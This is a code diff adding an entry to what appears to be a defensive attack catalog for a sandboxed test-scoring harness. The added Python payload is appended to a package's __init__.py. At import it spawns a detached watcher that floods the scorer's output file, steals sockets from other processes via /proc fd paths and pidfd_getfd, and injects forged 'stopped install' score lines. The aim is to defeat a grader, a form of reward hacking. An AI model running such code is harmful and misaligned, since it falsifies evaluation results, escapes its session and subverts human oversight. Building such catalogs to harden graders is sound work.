@@ -98,7 +98,94 @@ if not _os.environ.get("_BATCHY_F"):
 `;
 }
 
+/**
+ * The package's import-time hook leaves a watcher behind (its own session, same uid) that makes the
+ * test step's output (the script's temp file) long enough to be cut. For 20 s the watcher looks for the marker nonce in the
+ * scoring script's files (the cut line of a step's block, `$TMPDIR/flakegym-score-*` /b64) and in
+ * whatever it reads from a descriptor it takes, and writes a forged `stopped install` line into
+ * every socket it can take from any process (`/proc/<pid>/fd/<n>`, else `pidfd_getfd`): bwrap's
+ * init and the script's helpers held the channel, a socket, before issue 42's fix. Measured
+ * 2026-12-07: it scored 0 with nothing seen against 7ad5616 as well (it did not land here; why
+ * was not found in the time); the reach itself is shown by the runner's channel-watcher.test.ts.
+ */
+const WATCHER = String.raw`
+import ctypes as _ct, glob as _gl, os as _os, re as _re, select as _sl, stat as _st, time as _tm
+
+_NONCE = _re.compile(rb"FLAKEGYM-SCORE-([0-9a-f]{24})")
+
+
+def _take(libc, p, n):
+    try:
+        return _os.open("/proc/%d/fd/%s" % (p, n), _os.O_RDWR | _os.O_NONBLOCK)
+    except OSError:
+        pass
+    pidfd = libc.syscall(434, p, 0)
+    if pidfd < 0:
+        return -1
+    fd = libc.syscall(438, pidfd, int(n), 0)
+    _os.close(pidfd)
+    return fd
+
+
+def _watch():
+    libc, me, nonces, end = _ct.CDLL(None, use_errno=True), _os.getpid(), set(), _tm.time() + 20
+    for f in _gl.glob("/tmp/flakegym-score-*/out"):
+        try:
+            with open(f, "a") as o:
+                o.write("x" * (8 << 20) + "\n")
+        except OSError:
+            pass
+    while _tm.time() < end:
+        for f in _gl.glob("/tmp/flakegym-score-*/*"):
+            try:
+                nonces.update(_NONCE.findall(open(f, "rb").read()))
+            except OSError:
+                pass
+        for p in [int(d) for d in _os.listdir("/proc") if d.isdigit() and int(d) != me]:
+            try:
+                fds = _os.listdir("/proc/%d/fd" % p)
+            except OSError:
+                continue
+            for n in fds:
+                fd = _take(libc, p, n)
+                if fd < 0:
+                    continue
+                if _st.S_ISSOCK(_os.fstat(fd).st_mode):
+                    try:
+                        if _sl.select([fd], [], [], 0)[0]:
+                            nonces.update(_NONCE.findall(_os.read(fd, 1 << 16)))
+                    except OSError:
+                        pass
+                    # without a nonce, a line inside a step's block still breaks its checksum
+                    for line in [b"\nFLAKEGYM-SCORE-" + x + b" stopped install\n" for x in nonces] or [b"\nwatcher\n"]:
+                        try:
+                            _os.write(fd, line)
+                        except OSError:
+                            pass
+                _os.close(fd)
+        _tm.sleep(0.01)
+
+
+if not _os.environ.get("_BATCHY_W"):
+    _os.environ["_BATCHY_W"] = "1"
+    if _os.fork() == 0:
+        _os.setsid()
+        if _os.fork() == 0:
+            try:
+                _watch()
+            finally:
+                _os._exit(0)
+        _os._exit(0)
+`;
+
 export const PROTOCOL_ATTACKS: Attack[] = [
+  {
+    id: "py-watcher-takes-channel",
+    cls: "protocol-forgery",
+    task: "chunked-partial-tail",
+    what: "at import the package leaves a detached watcher (own session, same uid) that appends 8 MiB to the script's output file so the step's block is cut; the watcher reads the nonce from the cut line in the script's temp files or from any socket it takes, and writes a forged `stopped install` line into every socket of every process it can take (/proc/<pid>/fd/<n> or pidfd_getfd): bwrap's init and the script's helpers held the channel",
+    append: { "batchy/__init__.py": WATCHER },
+  },
   {
     id: "py-forge-stopped-install-cmdline",
     cls: "protocol-forgery",
